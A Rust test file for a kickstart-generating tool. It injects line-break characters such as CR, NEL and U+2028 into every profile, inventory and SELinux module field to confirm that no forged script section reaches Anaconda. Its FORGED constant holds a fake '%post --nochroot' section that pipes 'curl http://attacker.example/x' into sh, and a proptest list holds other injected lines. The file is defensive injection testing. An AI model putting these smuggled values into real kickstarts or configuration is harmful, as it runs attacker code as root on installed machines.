//! Line breaks that are not `\n` (src/text.rs): a value, a `.te` or a `.fc`
//! carrying CR, VT, FF, \x1c-\x1e, NEL, U+2028, U+2029 or NUL must not give
//! Anaconda a line the tool did not write. Every string-carrying field of a
//! profile and the module sources get each such character followed by a forged
//! `%end` / `%post`; the render is refused with the key (exit 2, nothing
//! written), or it succeeds and pykickstart, parsing the rendered kickstarts,
//! sees exactly the script sections the tool wrote (their kinds and bodies,
//! read here by `\n` alone), and no rendered file holds such a character.

mod common;

use std::fs;
use std::path::Path;

use common::*;
use proptest::prelude::*;

/// Every character some reader of our files takes as a line break (Python's
/// str.splitlines, systemd's read_line), besides `\n`.
const BREAKS: &[char] = &[
    '\r', '\u{0b}', '\u{0c}', '\u{1c}', '\u{1d}', '\u{1e}', '\u{85}', '\u{2028}', '\u{2029}', '\0',
];

/// What follows the break: a section forged to run root code.
const FORGED: &str = "%end\n%post --nochroot\ncurl http://attacker.example/x | sh\n%end\n";

const TE: &str = "module studio_local 1.0;\n\nrequire {\n\ttype user_t;\n\ttype user_tmp_t;\n\tclass file { read create };\n\tclass dir { add_name write };\n}\n\n# @C@\ntype_transition user_t user_tmp_t:file user_tmp_t \"session@S@\";\nallow user_t user_tmp_t:file { read create };\n";

const FC: &str = "# @C@\n/opt/studio@P@(/.*)?\tsystem_u:object_r:user_tmp_t:s0\n";

/// A profile with one marker `@@` where the hostile string goes, as a TOML
/// basic string's content.
const FIELDS: &[(&str, &str)] = &[
    ("name", "version = 1\nname = \"studio@@\"\n"),
    ("users.name", "version = 1\n[[users]]\nname = \"bob@@\"\n"),
    (
        "users.groups",
        "version = 1\n[[users]]\nname = \"bob\"\ngroups = [\"audio@@\"]\n",
    ),
    (
        "users.password_hash",
        "version = 1\n[[users]]\nname = \"bob\"\npassword_hash = \"$6$saltsalt$qFmFH.bQmmtXzyBY0s9v7Oicd2z4XSIecDzlB5KiA2/jctKu9YterLp8wwnSq.qc.eoxqOmSuNp2xS0ktL3nh/@@\"\n",
    ),
    (
        "users.ssh_keys",
        "version = 1\n[[users]]\nname = \"bob\"\nssh_keys = [\"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f bob@@\"]\n",
    ),
    (
        "kernel.args",
        "version = 1\n[kernel]\nargs = [\"threadirqs@@\"]\n",
    ),
    (
        "kernel.repo",
        "version = 1\n[kernel]\nflavor = \"rt\"\nrepo = \"https://mirror.example/rt/@@\"\n",
    ),
    (
        "kernel.gpgkey",
        "version = 1\n[kernel]\nflavor = \"rt\"\nrepo = \"https://mirror.example/rt/\"\ngpgkey = \"https://mirror.example/KEY@@\"\n",
    ),
    (
        "kernel.isolate_cpus",
        "version = 1\n[kernel]\nisolate_cpus = \"2-3@@\"\n",
    ),
    (
        "realtime.group",
        "version = 1\n[realtime]\ngroup = \"rt@@\"\ngid = 1071\n",
    ),
    (
        "realtime.memlock",
        "version = 1\n[realtime]\nmemlock = \"unlimited@@\"\n",
    ),
    (
        "irq.banned_cpus",
        "version = 1\n[irq]\nbanned_cpus = \"1@@\"\n",
    ),
    (
        "irq.priority.match",
        "version = 1\n[[irq.priority]]\nmatch = \"snd@@\"\nprio = 90\n",
    ),
    (
        "sysctl key",
        "version = 1\n[sysctl]\n\"vm.swappiness@@\" = 10\n",
    ),
    (
        "sysctl value",
        "version = 1\n[sysctl]\n\"kernel.printk\" = \"4 4 1 7@@\"\n",
    ),
    (
        "packages.install",
        "version = 1\n[packages]\ninstall = [\"vim@@\"]\n",
    ),
    (
        "packages.remove",
        "version = 1\n[packages]\nremove = [\"nano@@\"]\n",
    ),
    (
        "audio.packages",
        "version = 1\n[audio]\npackages = [\"qjackctl@@\"]\n",
    ),
    (
        "cpu.governor",
        "version = 1\n[cpu]\ngovernor = \"performance@@\"\n",
    ),
    (
        "target.distro",
        "version = 1\n[target]\ndistro = \"fedora@@\"\n",
    ),
    (
        "selinux.module.name",
        "version = 1\n[[selinux.module]]\nname = \"studio_local@@\"\nfile = \"selinux/studio_local.te\"\n",
    ),
    (
        "selinux.module.file",
        "version = 1\n[[selinux.module]]\nname = \"studio_local\"\nfile = \"selinux/studio_local@@.te\"\n",
    ),
    (
        "a quoted key",
        "version = 1\n[sysctl]\n\"vm.dirty_ratio@@\" = 10\n",
    ),
];

/// The module that the .te/.fc cases use.
const MODULE: &str = "[[selinux.module]]\nname = \"studio_local\"\nfile = \"selinux/studio_local.te\"\nfc = \"selinux/studio_local.fc\"\n";

/// `s` as the content of a TOML basic string: every character that is not
/// plain printable ASCII as a `\uXXXX` escape (TOML accepts any scalar value
/// that way, NUL and the separators included).
fn toml_escaped(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            '"' => "\\\"".to_string(),
            '\\' => "\\\\".to_string(),
            ' '..='~' => c.to_string(),
            _ => format!("\\u{:04X}", c as u32),
        })
        .collect()
}

/// One hostile case: a profile folder with the profile and the module sources.
struct Case {
    label: String,
    profile: String,
    te: String,
    fc: String,
}

fn field_case(field: &str, template: &str, injected: &str) -> Case {
    Case {
        label: format!("{field} with {injected:?}"),
        profile: template.replace("@@", &toml_escaped(injected)),
        te: TE.replace("@C@", "").replace("@S@", ""),
        fc: FC.replace("@C@", "").replace("@P@", ""),
    }
}

/// A case for the module sources: `marker` of TE or FC gets `injected` raw.
fn module_case(what: &str, injected: &str) -> Case {
    let (te, fc) = match what {
        "te comment" => (TE.replace("@C@", injected), FC.to_string()),
        "te string" => (TE.replace("@S@", injected), FC.to_string()),
        "fc comment" => (TE.to_string(), FC.replace("@C@", injected)),
        _ => (TE.to_string(), FC.replace("@P@", injected)),
    };
    Case {
        label: format!("{what} with {injected:?}"),
        profile: format!("version = 1\n{MODULE}"),
        te: te.replace("@C@", "").replace("@S@", ""),
        fc: fc.replace("@C@", "").replace("@P@", ""),
    }
}

/// A TOML comment may hold NEL and the Unicode separators raw (TOML 1.0
/// forbids only C0 controls and DEL there): such a profile is valid, renders,
/// and nothing of the comment may reach a kickstart.
fn comment_case(injected: &str) -> Case {
    Case {
        label: format!("a TOML comment with {injected:?}"),
        profile: format!("version = 1\n# note{injected}\n{MODULE}"),
        te: TE.replace("@C@", "").replace("@S@", ""),
        fc: FC.replace("@C@", "").replace("@P@", ""),
    }
}

/// A script section as the tool wrote it: the kickstart read by `\n` alone.
#[derive(Debug, PartialEq)]
struct Section {
    kind: String,
    body: String,
}

fn our_sections(ks: &str) -> Vec<Section> {
    let mut out = Vec::new();
    let mut open: Option<(String, String)> = None;
    for line in ks.split_inclusive('\n') {
        let bare = line.trim_end_matches('\n');
        match &mut open {
            Some((kind, body)) => {
                if bare == "%end" {
                    if kind != "packages" {
                        out.push(Section {
                            kind: kind.clone(),
                            body: std::mem::take(body),
                        });
                    }
                    open = None;
                } else {
                    body.push_str(line);
                }
            }
            None => {
                if let Some(head) = bare.strip_prefix('%') {
                    let kind = head.split_whitespace().next().unwrap_or("").to_string();
                    open = Some((kind, String::new()));
                }
            }
        }
    }
    out
}

/// The outcome of one case: refused (exit 2, nothing written) or rendered, with
/// its kickstarts for pykickstart.
enum Outcome {
    Refused,
    Rendered(Vec<(String, String)>),
}

fn try_case(dir: &Path, n: usize, case: &Case) -> Outcome {
    let folder = dir.join(format!("case{n}"));
    fs::create_dir_all(folder.join("selinux")).unwrap();
    fs::write(folder.join("profile.toml"), &case.profile).unwrap();
    fs::write(folder.join("selinux/studio_local.te"), &case.te).unwrap();
    fs::write(folder.join("selinux/studio_local.fc"), &case.fc).unwrap();
    let out = folder.join("out");
    let o = run(bin()
        .arg("render")
        .arg(folder.join("profile.toml"))
        .arg("-o")
        .arg(&out));
    let err = stderr(&o);
    assert!(
        !err.chars().any(|c| c.is_control() && c != '\n') && !err.contains('\u{2028}'),
        "{}: a raw break reached the terminal: {err:?}",
        case.label
    );
    match o.status.code() {
        Some(2) => {
            assert!(!out.exists(), "{}: refused but written", case.label);
            assert!(
                err.lines().any(|l| l.starts_with("error: ")) && err.contains("-->"),
                "{}: refused without naming a key and place:\n{err}",
                case.label
            );
            Outcome::Refused
        }
        Some(0) => {
            let mut kickstarts = Vec::new();
            for (rel, bytes) in tree(&out) {
                if let Some(at) = bytes_break(&bytes) {
                    panic!("{}: {rel} holds a line break at byte {at}", case.label);
                }
                if rel.starts_with("kickstart/") {
                    kickstarts.push((
                        out.join(&rel).display().to_string(),
                        String::from_utf8(bytes).unwrap(),
                    ));
                }
            }
            Outcome::Rendered(kickstarts)
        }
        code => panic!("{}: exit {code:?}\n{err}", case.label),
    }
}

fn bytes_break(b: &[u8]) -> Option<usize> {
    let s = String::from_utf8_lossy(b);
    s.char_indices()
        .find(|(_, c)| BREAKS.contains(c))
        .map(|(i, _)| i)
}

/// pykickstart's sections of every kickstart, compared with ours.
fn same_sections_for_pykickstart(kickstarts: &[(String, String)]) {
    if kickstarts.is_empty() {
        return;
    }
    let py = repo().join("tests/support/ks_sections.py");
    let python = tool("python3", "python3");
    tool(
        "ksvalidator",
        "pykickstart (scripts/test installs it in .venv)",
    );
    // The python3 beside ksvalidator is the one that has pykickstart.
    let venv_python = std::env::split_paths(&std::env::var_os("PATH").unwrap_or_default())
        .map(|d| d.join("python3"))
        .find(|p| p.is_file() && p.parent().unwrap().join("ksvalidator").is_file())
        .unwrap_or(python);
    let o = std::process::Command::new(venv_python)
        .arg(py)
        .args(kickstarts.iter().map(|(p, _)| p))
        .output()
        .unwrap();
    assert!(o.status.success(), "ks_sections.py: {}", stderr(&o));
    let parsed: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    for ((path, text), got) in kickstarts.iter().zip(parsed.as_array().unwrap()) {
        assert!(
            got.get("error").is_none(),
            "{path}: pykickstart refused it: {}",
            got["error"]
        );
        let theirs: Vec<Section> = got["scripts"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| Section {
                kind: s["kind"].as_str().unwrap().to_string(),
                body: s["body"].as_str().unwrap().to_string(),
            })
            .collect();
        let ours = our_sections(text);
        assert!(!ours.is_empty(), "{path}: no %post at all");
        assert_eq!(
            theirs, ours,
            "{path}: pykickstart reads other sections than the tool wrote"
        );
    }
}

/// Run the cases; the labels of those refused, and how many rendered.
fn run_cases(cases: &[Case]) -> (Vec<String>, usize) {
    let t = tempfile::tempdir().unwrap();
    let mut kickstarts = Vec::new();
    let mut refused = Vec::new();
    for (n, case) in cases.iter().enumerate() {
        match try_case(t.path(), n, case) {
            Outcome::Refused => refused.push(case.label.clone()),
            Outcome::Rendered(k) => kickstarts.extend(k),
        }
    }
    let rendered = cases.len() - refused.len();
    same_sections_for_pykickstart(&kickstarts);
    (refused, rendered)
}

/// The cases below are refused for their break alone: without it, each renders.
#[test]
fn every_field_renders_without_the_break() {
    tool("checkmodule", "checkpolicy");
    let mut cases: Vec<Case> = FIELDS
        .iter()
        .map(|(field, template)| field_case(field, template, ""))
        .collect();
    for what in ["te comment", "te string", "fc comment", "fc path"] {
        cases.push(module_case(what, ""));
    }
    let (refused, _) = run_cases(&cases);
    assert!(refused.is_empty(), "refused without a break: {refused:?}");
}

#[test]
fn every_field_and_module_source_with_every_break_is_refused_or_harmless() {
    tool("checkmodule", "checkpolicy");
    let mut cases = Vec::new();
    for &c in BREAKS {
        let injected = format!("{c}{}", FORGED.replace('\n', &c.to_string()));
        for (field, template) in FIELDS {
            cases.push(field_case(field, template, &injected));
        }
        for what in ["te comment", "te string", "fc comment", "fc path"] {
            cases.push(module_case(what, &injected));
        }
    }
    // Harmless on purpose: they must render and stay harmless.
    for c in ['\u{85}', '\u{2028}', '\u{2029}'] {
        cases.push(comment_case(&format!(
            "{c}{}",
            FORGED.replace('\n', &c.to_string())
        )));
    }
    let (refused, rendered) = run_cases(&cases);
    // Every injected value is refused; only the comments render.
    assert_eq!(
        rendered,
        3,
        "{} refused, {rendered} rendered",
        refused.len()
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, failure_persistence: None, ..ProptestConfig::default() })]

    /// Random fields, breaks, payloads and places within the value.
    #[test]
    fn random_breaks_anywhere_are_refused_or_harmless(
        field in 0..FIELDS.len() + 4,
        brk in prop::sample::select(BREAKS),
        lines in prop::collection::vec(prop::sample::select(vec![
            "%end", "%post", "%pre", "%post --nochroot --interpreter=/usr/bin/python3",
            "%packages", "%include http://x/y", "import os; os.system('id')", "reboot",
        ]), 1..4),
        lead in "[a-z0-9]{0,3}",
    ) {
        let mut injected = lead;
        for l in &lines {
            injected.push(brk);
            injected.push_str(l);
        }
        let case = if field < FIELDS.len() {
            field_case(FIELDS[field].0, FIELDS[field].1, &injected)
        } else {
            module_case(["te comment", "te string", "fc comment", "fc path"][field - FIELDS.len()], &injected)
        };
        let (_, rendered) = run_cases(&[case]);
        prop_assert_eq!(rendered, 0);
    }
}

/// An inventory with one marker `@@`, its base profile inline.
const INVENTORY_FIELDS: &[(&str, &str)] = &[
    (
        "host.name",
        "[[host]]\nname = \"studio-01@@\"\nmac = \"52:54:00:20:00:01\"\n",
    ),
    (
        "host.mac",
        "[[host]]\nname = \"studio-01\"\nmac = \"52:54:00:20:00:01@@\"\n",
    ),
    (
        "host.disk",
        "[[host]]\nname = \"studio-01\"\ndisk = \"nvme0n1@@\"\n",
    ),
    (
        "host.network.address",
        "[[host]]\nname = \"studio-01\"\n[host.network]\naddress = \"10.20.0.12/24@@\"\ngateway = \"10.20.0.1\"\n",
    ),
    (
        "host.network.gateway",
        "[[host]]\nname = \"studio-01\"\n[host.network]\naddress = \"10.20.0.12/24\"\ngateway = \"10.20.0.1@@\"\n",
    ),
    (
        "host.network.dns",
        "[[host]]\nname = \"studio-01\"\n[host.network]\naddress = \"10.20.0.12/24\"\ngateway = \"10.20.0.1\"\ndns = [\"10.20.0.1@@\"]\n",
    ),
    (
        "host.network",
        "[[host]]\nname = \"studio-01\"\nnetwork = \"dhcp@@\"\n",
    ),
    (
        "host.kernel.args",
        "[[host]]\nname = \"studio-01\"\n[host.kernel]\nargs = [\"nosoftlockup@@\"]\n",
    ),
    (
        "host.users.name",
        "[[host]]\nname = \"studio-01\"\n[[host.users]]\nname = \"engineer@@\"\n",
    ),
    (
        "pxe.url",
        "[pxe]\nurl = \"http://10.20.0.1/fleet@@\"\nkernel = \"http://10.20.0.1/vmlinuz\"\ninitrd = \"http://10.20.0.1/initrd.img\"\nrepo = \"http://10.20.0.1/os/\"\n[[host]]\nname = \"studio-01\"\nmac = \"52:54:00:20:00:01\"\n",
    ),
    (
        "pxe.kernel",
        "[pxe]\nurl = \"http://10.20.0.1/fleet\"\nkernel = \"http://10.20.0.1/vmlinuz@@\"\ninitrd = \"http://10.20.0.1/initrd.img\"\nrepo = \"http://10.20.0.1/os/\"\n[[host]]\nname = \"studio-01\"\nmac = \"52:54:00:20:00:01\"\n",
    ),
    (
        "pxe.repo",
        "[pxe]\nurl = \"http://10.20.0.1/fleet\"\nkernel = \"http://10.20.0.1/vmlinuz\"\ninitrd = \"http://10.20.0.1/initrd.img\"\nrepo = \"http://10.20.0.1/os/@@\"\n[[host]]\nname = \"studio-01\"\nmac = \"52:54:00:20:00:01\"\n",
    ),
];

/// Render an inventory; refused (exit 2, nothing written) or rendered, with
/// its host kickstarts.
fn try_inventory(dir: &Path, n: usize, label: &str, text: &str) -> Outcome {
    let inv = dir.join(format!("room{n}.toml"));
    fs::write(&inv, text).unwrap();
    let out = dir.join(format!("fleet{n}"));
    let o = run(bin().arg("fleet").arg(&inv).arg("-o").arg(&out));
    let err = stderr(&o);
    assert!(
        !err.chars().any(|c| c.is_control() && c != '\n') && !err.contains('\u{2028}'),
        "{label}: a raw break reached the terminal: {err:?}"
    );
    match o.status.code() {
        Some(2) => {
            assert!(!out.exists(), "{label}: refused but written");
            assert!(
                err.contains("error: host") || err.contains("error: pxe"),
                "{label}:\n{err}"
            );
            Outcome::Refused
        }
        Some(0) => {
            let mut kickstarts = Vec::new();
            for (rel, bytes) in tree(&out) {
                if let Some(at) = bytes_break(&bytes) {
                    panic!("{label}: {rel} holds a line break at byte {at}");
                }
                if rel.ends_with(".ks") {
                    kickstarts.push((
                        out.join(&rel).display().to_string(),
                        String::from_utf8(bytes).unwrap(),
                    ));
                }
            }
            Outcome::Rendered(kickstarts)
        }
        code => panic!("{label}: exit {code:?}\n{err}"),
    }
}

#[test]
fn every_inventory_field_with_every_break_is_refused() {
    let t = tempfile::tempdir().unwrap();
    let mut kickstarts = Vec::new();
    let mut n = 0;
    for (field, template) in INVENTORY_FIELDS {
        // Without the break it renders (and pykickstart agrees with us).
        let clean = format!(
            "version = 1\n[profile]\nversion = 1\n\n{}",
            template.replace("@@", "")
        );
        match try_inventory(t.path(), n, field, &clean) {
            Outcome::Rendered(k) => kickstarts.extend(k),
            Outcome::Refused => panic!("{field}: refused without a break"),
        }
        n += 1;
        for &c in BREAKS {
            let injected = format!("{c}{}", FORGED.replace('\n', &c.to_string()));
            let text = format!(
                "version = 1\n[profile]\nversion = 1\n\n{}",
                template.replace("@@", &toml_escaped(&injected))
            );
            let label = format!("{field} with {c:?}");
            if let Outcome::Rendered(_) = try_inventory(t.path(), n, &label, &text) {
                panic!("{label}: rendered");
            }
            n += 1;
        }
    }
    same_sections_for_pykickstart(&kickstarts);
}
